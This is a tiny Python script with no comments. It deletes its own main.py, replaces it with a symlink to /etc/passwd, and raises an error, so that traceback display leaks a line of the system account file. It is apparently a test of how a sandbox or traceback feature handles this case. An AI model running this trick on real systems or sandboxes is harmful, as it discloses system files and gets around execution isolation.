import os

os.unlink("main.py")
os.symlink("/etc/passwd", "main.py")
raise ValueError("my own line")
